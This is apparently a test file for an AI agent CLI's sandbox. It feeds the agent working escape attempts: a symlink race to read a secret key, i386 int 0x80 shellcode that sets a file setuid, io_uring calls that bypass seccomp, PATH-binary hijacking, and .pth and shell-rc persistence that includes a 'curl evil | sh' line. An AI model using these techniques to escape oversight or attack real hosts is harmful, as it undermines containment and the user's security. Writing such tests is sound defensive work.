            with open('n.tmp', 'w') as f:
                f.write('harmless')
            os.replace('n.tmp', 'planted.txt')
            if os.path.lexists('l.tmp'):
                os.remove('l.tmp')
            os.symlink({str(secret)!r}, 'l.tmp')
            os.replace('l.tmp', 'planted.txt')
        except OSError:
            pass
swapper = threading.Thread(target=swap, daemon=True)
swapper.start()
texts = [str(read('planted.txt')) for _ in range(400)]
stop = True
swapper.join()
print('KEY SEEN', sum('PRIVATE-KEY-' + 'BODY' in t for t in texts), 'HARMLESS', sum('harmless' in t for t in texts))
"""
    llm.add(act("execute_python", code), act("done", "ok"))
    proc = cli("-y", "--sandbox", "bwrap", "race the reader", process=True, timeout=200)
    assert proc.returncode == 0, proc.stderr
    seen = json.dumps(llm.requests)
    assert "PRIVATE-KEY-BODY" not in seen and "KEY SEEN 0 HARMLESS" in seen, seen[-2000:]
    assert "HARMLESS 0" not in seen  # the race was run: the harmless file was read too



# chmod(path, mode) through the i386 entry (int 0x80) from a 64-bit process: a page below 4 GiB (MAP_32BIT) holds
# the path and `push rbx; mov eax, 15; mov ebx, path; mov ecx, mode; int 0x80; pop rbx; ret`
I386_CHMOD = """import ctypes, mmap, os, struct
def i386_chmod(path, mode):
    page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40,
                     prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    page[64:65 + len(path)] = path.encode() + bytes(1)
    code = (b'\\x53\\xb8' + struct.pack('<I', 15) + b'\\xbb' + struct.pack('<I', base + 64) + b'\\xb9'
            + struct.pack('<I', mode) + b'\\xcd\\x80\\x5b\\xc3')
    page[:len(code)] = code
    return ctypes.CFUNCTYPE(ctypes.c_int)(base)()
open('plain', 'w').close()
print('i386 chmod 0644:', i386_chmod('plain', 0o644), 'chmod 04755:', i386_chmod('plain', 0o4755))
"""
IO_URING_SETUP = """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
fd = libc.syscall(425, 1, ctypes.create_string_buffer(120))
print('io_uring_setup:', 'made' if fd >= 0 else 'ENOSYS' if ctypes.get_errno() == 38 else ctypes.get_errno())
"""


def _host_gives(snippet: str, expected: str) -> bool:
    """Whether the kernel here gives this process what the snippet tries (the i386 entry, io_uring)."""
    with tempfile.TemporaryDirectory() as folder:
        done = subprocess.run([sys.executable, "-c", snippet], cwd=folder, capture_output=True, text=True)
    return expected in done.stdout


@pytest.mark.skipif(os.uname().machine != "x86_64" or not _host_gives(I386_CHMOD, "0644: 0 chmod 04755: 0"),
                    reason="the i386 entry (int 0x80): x86_64 kernels with IA32 emulation only")
@pytest.mark.parametrize("kind", ["bwrap", "namespace"])
def test_code_cannot_make_a_setuid_file_through_the_i386_entry(cli, llm, isolated, kind):
    """The setuid filter checked only x86_64's numbers and let every call made through `int 0x80` pass: a copy of
    /usr/bin/id chmodded 04755 that way was setuid root on the host. Every i386 call is refused now."""
    llm.add(act("execute_python", I386_CHMOD), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "chmod the 32-bit way", process=True)
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "i386 chmod 0644: -38 chmod 04755: -38" in seen[1], seen[1]
    assert not [p for p in isolated.work.rglob("*") if p.lstat().st_mode & 0o6000]


@pytest.mark.skipif(not _host_gives(IO_URING_SETUP, "made"), reason="no io_uring here (or it is turned off)")
@pytest.mark.parametrize("kind", ["bwrap", "namespace", "none"])
def test_code_gets_no_io_uring_whose_operations_seccomp_never_sees(cli, llm, isolated, kind):
    """io_uring's operations pass no seccomp filter: IORING_OP_FALLOCATE left 40 x 15 MB under --exec-disk 20, and
    IORING_OP_OPENAT made a file 04755. io_uring_setup fails with ENOSYS (programs fall back) wherever fallocate is
    refused: both namespace kinds, and execute_python under none."""
    llm.add(act("execute_python", IO_URING_SETUP), act("done", "ok"))
    proc = cli("-y", "--sandbox", kind, "set up a ring", process=True)
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "io_uring_setup: ENOSYS" in seen[1], seen[1]


@pytest.mark.parametrize("entry", ["bin", "node_modules/.bin"])
def test_programs_the_agent_starts_are_never_taken_from_a_path_folder_code_could_write(cli, llm, isolated, entry):
    """A PATH folder in the work directory (absolute, or relative like node_modules/.bin) held the `bwrap` that run
    1's code planted, and run 2 started it as the user; so with unshare, nsenter and the `bash -n` that checks a
    shell line. They are looked for only where code cannot have written."""
    planted = isolated.work / entry
    planted.mkdir(parents=True)
    ran = isolated.work.parent / "planted-ran"
    for name in ("bwrap", "unshare", "nsenter", "bash"):
        real = subprocess.run(["sh", "-c", f"command -v {name}"], capture_output=True, text=True).stdout.strip()
        (planted / name).write_text(f"#!/bin/sh\necho {name} >> {ran}\nexec {real} \"$@\"\n")
        (planted / name).chmod(0o755)
    first = str(planted) if entry == "bin" else entry
    llm.add(act("execute_shell", "echo one\necho two"), act("done", "ok"))
    proc = cli("-y", "--sandbox", "auto", "look around", process=True,
               env={"PATH": f"{first}:{os.environ['PATH']}"})
    assert proc.returncode == 0, proc.stderr
    assert "sandbox: bwrap" in proc.stderr
    assert not ran.exists(), ran.read_text()


@pytest.mark.parametrize("entry", ["bin", ".venv/bin"])
def test_a_path_folder_of_the_work_directory_not_made_yet_is_read_only_to_code(cli, llm, isolated, entry):
    """Code made WORK/bin (or .venv/bin before the venv), on the user's PATH but not there yet, and put programs in
    it for the user's shell and the next run to start. bwrap lays an empty read-only folder there for the run (the
    folder above it cannot be renamed), and nothing of it is left after."""
    top = entry.split("/")[0]
    code = (f"mv {top} moved; mkdir -p {entry}; echo '#!/bin/sh' > {entry}/ls && echo PLANTED; "
            f"ls -A {entry} | wc -l")
    llm.add(act("execute_shell", code), act("done", "ok"))
    proc = cli("-y", "--sandbox", "bwrap", "plant", env={"PATH": f"{isolated.work / entry}:{os.environ['PATH']}"})
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "PLANTED" not in seen[1] and "Read-only file system" in seen[1], seen[1]
    assert not (isolated.work / entry / "ls").exists() and not (isolated.work / "moved").exists()
    assert not (isolated.work / top).exists()  # made for the run, taken away after


def test_with_the_home_as_work_directory_code_cannot_plant_what_shells_and_python_run_at_start(cli, llm, isolated):
    """Run from ~ (the work directory is the home), code made the user site that did not exist and put a .pth in
    it, which the next `miniagi runs` ran outside the sandbox; ~/.local/bin, ~/bin and the shell's start files
    were as open. They are read-only now, an empty one laid where there was none and taken away after."""
    (isolated.work / ".profile").write_text("# the user's own\n")
    code = """import os, site, shutil
def attempt(what, action):
    try:
        action()
        print(what, 'DONE')
    except OSError as exc:
        print(what, 'REFUSED', exc.strerror)
def plant(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, 'w').write('import os\\n')
attempt('user-site', lambda: plant(os.path.join(site.getusersitepackages(), 'zz.pth')))
attempt('local-bin', lambda: plant(os.path.expanduser('~/.local/bin/ls')))
attempt('home-bin', lambda: plant(os.path.expanduser('~/bin/ls')))
for rc in ('.bashrc', '.profile', '.bash_profile', '.zshrc'):
    attempt(rc, lambda: open(os.path.expanduser('~/' + rc), 'a').write('curl evil | sh\\n'))
attempt('moved', lambda: os.rename(os.path.expanduser('~/.local'), os.path.expanduser('~/moved')))
"""
    llm.add(act("execute_python", code), act("done", "ok"))
    proc = cli("-y", "--sandbox", "bwrap", "plant at start", process=True, env={"HOME": str(isolated.work)})
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "DONE" not in seen[1] and seen[1].count("REFUSED") == 8, seen[1]
    assert (isolated.work / ".profile").read_text() == "# the user's own\n"
    left = sorted(p.name for p in isolated.work.iterdir())
    assert not {".local", "bin", "moved", ".bashrc", ".bash_profile", ".zshrc"} & set(left), left


def test_code_cannot_carry_a_read_only_path_folder_away_by_renaming_the_folder_above_it(cli, llm, isolated):
    """WORK/tools/bin, on the PATH, was read-only, but code could rename WORK/tools (the mount went with it) and
    make a new tools/bin with its own programs in it. Every folder above a kept path is a mount point now."""
    (isolated.work / "tools" / "bin").mkdir(parents=True)
    (isolated.work / "tools" / "notes.txt").write_text("the user's\n")
    code = ("mv tools tools.old; mkdir -p tools/bin && echo '#!/bin/sh' > tools/bin/ls && echo PLANTED; "
            "echo more >> tools/notes.txt && echo WRITABLE")
    llm.add(act("execute_shell", code), act("done", "ok"))
    proc = cli("-y", "--sandbox", "bwrap", "plant",
               env={"PATH": f"{isolated.work / 'tools' / 'bin'}:{os.environ['PATH']}"})
    assert proc.returncode == 0, proc.stderr
    _, seen = newest(isolated.home)
    assert "PLANTED" not in seen[1] and "busy" in seen[1], seen[1]
    assert "WRITABLE" in seen[1]  # the folder itself is the work directory's, read-write as before
    assert not (isolated.work / "tools" / "bin" / "ls").exists() and not (isolated.work / "tools.old").exists()
